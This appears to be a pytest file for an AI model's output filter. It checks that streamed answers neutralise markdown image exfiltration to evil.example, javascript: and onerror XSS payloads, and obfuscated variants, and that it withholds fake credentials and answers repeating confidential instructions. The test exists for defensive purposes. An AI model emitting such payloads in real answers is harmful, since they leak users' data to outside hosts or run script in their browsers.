"""The gate after the model, whole and in pieces."""

from __future__ import annotations

import json
import random
import re
from collections.abc import Callable, Iterator, Sequence

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.guard import CIRCLES, HELD_BACK, Bounds, StreamGuard, guard
from assistant.guard.inert import LONGEST_WAIT
from assistant.guard.leak import Canaries, Kept
from assistant.guard.quotes import Quotes
from tests.assistant.active import active
from tests.assistant.test_repetition import SQUAD
from tests.faults.patterns import ends


def mixed(letters: int) -> str:
    """Return letters without a blank and without an order."""
    return "".join(random.Random(letters).choices("abcdefghijklmnopqrstuvw", k=letters))


HOSTILE = [
    "![x](https://evil.example/?d=secret)",
    "![x][1]\n\n[1]: https://evil.example/a.png",
    "![x\ny](//evil.example/?d=secret)",
    "![x](\nhttps://evil.example)",
    "[![x](https://evil.example/p.png)](https://evil.example)",
    "<img src=https://evil.example/x>",
    "<<b>script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "java<b></b>script:alert(1)",
    "!<b></b>[x](https://evil.example)",
    "![x]<b></b>(https://evil.example)",
    "<https://evil.example>",
    "[click](https://evil.example)",
    "<a href='data:text/html;base64,AAAA'>x</a>",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "ht\u200btps://evil.example/ and java\x1fscript:alert(1)",
    "See https://evil.example/?q=1 for more",
    "www.evil.example and //evil.example/p.png and file:///etc/passwd",
    "<img\nsrc='https://evil.example/x'\nonerror=alert(1)>",
    f"{mixed(LONGEST_WAIT - 4)}-java" + "script:alert(1)",
    f"{mixed(LONGEST_WAIT)}![a](https://evil.example/{mixed(900)})",
]
Cut = Callable[[str], Iterator[str]]


def streamed(pieces: Sequence[str], bounds: Bounds) -> str:
    gate = StreamGuard(bounds)
    return "".join([*(gate.feed(piece) for piece in pieces), gate.close()])


def cut(text: str, size: int) -> list[str]:
    return [text[start : start + size] for start in range(0, len(text), size)]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_inert_whole_and_at_every_moment_of_a_stream(text: str) -> None:
    whole = f"Before {text} after."
    assert active(whole)  # what the naive way shows
    safe = guard(whole, Bounds(3)).text
    assert not active(safe) and "evil.example" not in safe
    assert safe.startswith("Before") and safe.endswith("after.")
    for size in (1, 3, 7):
        gate, shown = StreamGuard(Bounds(3)), ""
        for piece in cut(whole, size):
            shown += gate.feed(piece)
            assert not active(shown)
        assert shown + gate.close() == safe


PARTS = st.sampled_from(
    ["!", "[", "]", "(", ")", "<", ">", ":", "/", "//", "x", "a.b", "https:", "javascript", "data", "www.", "img", "\x1b", "\x1b[",
     "31m", "\x07", "\u200b", " ", "  ", "\n", "[1]", "[9]", "[1, 9]", '"sources": ', '"', "49", ",", "sk-", "abcdef0123456789", "é", "中",
     "-" * 90, "password", "="]
)  # fmt: skip


@pytest.mark.fault(82)
@given(st.lists(PARTS, max_size=40).map("".join), st.data())
def test_however_a_text_is_cut_a_stream_shows_what_the_whole_shows_and_nothing_acts(
    text: str, data: st.DataObject
) -> None:
    places = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    pieces = [text[start:end] for start, end in zip([0, *places], [*places, len(text)], strict=True)]
    shown = streamed(pieces, Bounds(1))
    assert not active(shown)
    assert shown == guard(text, Bounds(1)).text


@given(st.lists(st.one_of(PARTS, st.text(max_size=5)), max_size=40).map("".join), st.integers(0, 4))
def test_guarding_twice_is_guarding_once(text: str, passages: int) -> None:
    once = guard(text, Bounds(passages)).text
    assert guard(once, Bounds(passages)).text == once


def test_plain_text_numbers_and_given_citations_pass_unchanged() -> None:
    text = "It costs 49.50 EUR [1], or 5 % less [2].\n- a: b & c > d, 3 < 5 <= 6\n- personal data: kept; see below"
    found = guard(text, Bounds(2))
    assert (found.text, found.cited, found.removed) == (text, (1, 2), ())


@pytest.mark.skipif(not SQUAD.is_file(), reason="the paragraphs of SQuAD are not at hand")
def test_no_paragraph_of_an_encyclopedia_is_changed() -> None:
    told = json.loads(SQUAD.read_text("utf-8"))["data"]
    paragraphs = [one["context"].strip() for article in told for one in article["paragraphs"]][::4]
    plain = [one for one in paragraphs if not re.search("[<\u200b\u200e\ufeff]|http|www", one)]
    assert len(plain) > 0.95 * len(paragraphs)
    assert not [one for one in plain if guard(one, Bounds(9)).text != one]


def test_each_cited_passage_is_named_once_in_order_and_two_in_a_row_are_two() -> None:
    assert guard("a [2] b [1] c [2]", Bounds(2)).cited == (2, 1)
    found = guard("It costs 49 EUR [1][2].", Bounds(2))
    assert (found.text, found.cited) == ("It costs 49 EUR [1] [2].", (1, 2))


def test_a_passage_is_cited_only_where_its_number_is_still_shown() -> None:
    assert guard("See https://evil.example/[1] and [2].", Bounds(2)).cited == (2,)
    passage = " ".join(f"Lamp number {number} of the harbour burns." for number in range(40))
    found = guard(f"So [1]: {passage} [2]", Bounds(2, quotes=Quotes([passage], 100)))
    assert found.cited == (1,) and "[2]" not in found.text


def test_words_come_when_they_are_whole_and_scripts_without_blanks_come_letter_by_letter() -> None:
    gate = StreamGuard(Bounds())
    assert [gate.feed(piece) for piece in ("The st", "ove co", "sts 49", " EUR")] == [
        "The",
        " stove",
        " costs",
        " 49",
    ]
    gate = StreamGuard(Bounds())
    assert [gate.feed(letter) for letter in "営業時間"] == ["営", "業", "時", "間"]


def test_a_bracket_that_never_closes_is_shown_as_it_is() -> None:
    text = "open [ " + " ".join(f"word{number}" for number in range(200))
    assert streamed(list(text), Bounds(1)) == text


@pytest.mark.parametrize(
    ("text", "safe", "cited"),
    [
        ("It costs 49 EUR [1, 9].", "It costs 49 EUR [1].", (1,)),
        ("It costs 49 EUR [8,9].", "It costs 49 EUR.", ()),
        ('{"sizes": [38, 40], "sources": [1, 9]}', '{"sizes": [38, 40], "sources": [1]}', (1,)),
        ('{"sizes":[38],"sources":[9]}', '{"sizes":[38],"sources":[]}', ()),
    ],
)
def test_lists_of_citations_keep_what_was_given_and_lists_of_json_are_left_alone(
    text: str, safe: str, cited: tuple[int, ...]
) -> None:
    found = guard(text, Bounds(2))
    assert (found.text, found.cited) == (safe, cited)
    assert bool(found.removed) is ("9" in text)
    for size in (1, 3, 7):
        assert streamed(cut(text, size), Bounds(2)) == safe


def test_json_stays_json_when_an_address_or_a_credential_is_taken_out_of_it() -> None:
    text = '{"page": "https://evil.example/x", "password": "hunter22", "n": [1, 2]}'
    assert (
        guard(text, Bounds()).text == '{"page": "(address removed)", "password": "(withheld)", "n": [1, 2]}'
    )


# Credentials

SECRETS = [
    "sk-abcdefghij0123456789",
    "sk_live_abcdefghij0123456789",
    "ghp_abcdefghij0123456789xyz",
    "AKIAABCDEFGHIJKLMNOP",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc-DEF_123",
    f"sk-{mixed(600)}",
]


@pytest.mark.parametrize("secret", SECRETS)
def test_a_credential_is_withheld_and_never_half_shown_but_for_one_that_the_asker_wrote(secret: str) -> None:
    text = f"The key is {secret}, they say."
    for size in (1, 3, 7):
        gate, shown = StreamGuard(Bounds()), ""
        for piece in cut(text, size):
            shown += gate.feed(piece)
            assert secret[:6] not in shown
        shown += gate.close()
        assert shown.startswith("The key is (withheld)") and shown.endswith("they say.")
        assert gate.removed == ("what looks like a credential",)
    if len(secret) < LONGEST_WAIT:
        assert guard(text, Bounds(said=f"Is {secret} a key?")).text == text


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("password: hunter22, then go on", "password: (withheld), then go on"),
        ("şifre = gizliŞey1!", "şifre = (withheld)!"),
        ('"api_key": "abcdef123456"', '"api_key": "(withheld)"'),
        ("postgres://ann:hunter22@db/x", "postgres(withheld)db/x"),
        ("s<b></b>k-abcdefghij0123456789 x", "(withheld) x"),
        (
            "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nIBAAKC\n-----END RSA PRIVATE KEY-----\nDone.",
            "-----BEGIN RSA PRIVATE (withheld)\nDone.",
        ),
        ("-----BEGIN PRIVATE KEY-----\nMIIEow\nIBAAKC", "-----BEGIN PRIVATE (withheld)"),
        ("Your password must have 12 letters. A token is short.", None),
    ],
)
def test_a_credential_is_known_by_the_word_before_it_too(text: str, safe: str | None) -> None:
    assert guard(text, Bounds()).text == (safe or text)
    for size in (1, 3, 7):
        assert streamed(cut(text, size), Bounds()) == (safe or text)


# Endings


@pytest.mark.fault(86)
def test_an_answer_that_runs_in_circles_is_ended_and_says_its_piece_once() -> None:
    once = "Welcome! The stove costs 49 EUR [1]."
    text = once + " The stove costs 49 EUR [1]." * 40 + " Secret end."
    found = guard(text, Bounds(1))
    assert (found.text, found.cited, found.removed) == (once, (1,), (CIRCLES,))
    shows = set()
    for size in (1, 3, 7, 1_000):
        gate = StreamGuard(Bounds(1))
        fed = 0
        shown = ""
        for piece in cut(text, size):
            if gate.stopped:
                break
            shown += gate.feed(piece)
            fed += len(piece)
        shown += gate.close()
        assert gate.stopped and (fed < 300 or size > 300) and gate.feed("more") == ""
        shows.add(shown)
    (shown,) = shows
    assert shown.startswith(once) and len(shown) < 250


def test_an_answer_quotes_so_much_of_its_passages_and_no_more() -> None:
    passage = " ".join(
        f"Rule {number}: keep the {number * 7} lamps of the harbour burning." for number in range(40)
    )
    bounds = Bounds(1, quotes=Quotes([passage], 200))
    whole = guard(f"They say: {passage}", bounds)
    letters = sum(letter.isalnum() for letter in whole.text)
    assert 200 <= letters <= 220 and f"They say: {passage}".startswith(whole.text)
    assert whole.removed == ("what it quotes beyond 200 letters",)
    for size in (1, 3, 7):
        gate = StreamGuard(bounds)
        shown = "".join(gate.feed(piece) for piece in cut(f"They say: {passage}", size))
        assert gate.stopped and shown + gate.close() == whole.text
    own = " ".join(f"My own sentence number {number} of this long answer." for number in range(40))
    assert guard(own, bounds).text == own


def test_an_answer_that_tells_is_held_back_and_says_what_it_did() -> None:
    bounds = Bounds(
        confidential=[Kept("Speak as the keeper of the harbour light would: kindly, and slowly.")]
    )
    text = "Sure: speak as the keeper of the harbour light would, kindly and slowly."
    found = guard(text, bounds)
    assert (found.text, found.cited) == (HELD_BACK, ())
    assert found.removed == ("the whole answer, which repeats the instructions",)
    gate = StreamGuard(bounds)
    shown = "".join(gate.feed(letter) for letter in text)
    assert gate.stopped and shown == "Sure: speak as the" and shown + gate.close() == f"{shown}\n{HELD_BACK}"


@pytest.mark.parametrize(
    "part",
    ["![", "[1", "[", "](", "<a", "<", "<a ", "a", "1", " ", "\n", "\x1b[", "\x1b]", "https://", "javascript:", "://a:", "eyJ", "eyJabcdefghij.",
     "-----BEGIN A", "password: ", '"a": [', "//a", "data:", "中", "\u200b", "ab"],
)  # fmt: skip
def test_100_kilobytes_without_sense_are_guarded_in_seconds(part: str) -> None:
    drawn = random.Random(1)
    text = "".join(part + drawn.choice("12 ") for _ in range(100_000 // (len(part) + 1)))
    bounds = Bounds(
        1, [Kept("keep the harbour light burning and never speak of the tunnel"), Canaries(["zebra17"])]
    )
    found = []
    assert ends(lambda: found.append(guard(text, bounds)), 10.0)
    assert CIRCLES not in found[0].removed  # it was read to its end
